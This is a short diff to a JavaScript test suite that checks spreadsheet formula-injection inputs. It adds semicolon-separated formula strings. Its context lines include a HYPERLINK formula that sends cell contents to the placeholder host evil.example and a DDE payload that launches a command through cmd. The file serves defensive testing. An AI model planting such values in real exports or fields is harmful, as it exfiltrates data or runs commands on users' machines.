@@ -56,6 +56,10 @@ describe('A34 text that a spreadsheet would run', () => {
     '＠SUM(A1)',
     '﹦1',
     '﹣1',
+    // Where a semicolon ends a field, quotes do not hold it together.
+    'a;=1+1',
+    'a; "=1+1',
+    'a;＝1+1',
     '=HYPERLINK("http://evil.example/?"&A1,"see")',
     "=cmd|' /C calc'!A0",
     '="a"\n+1',
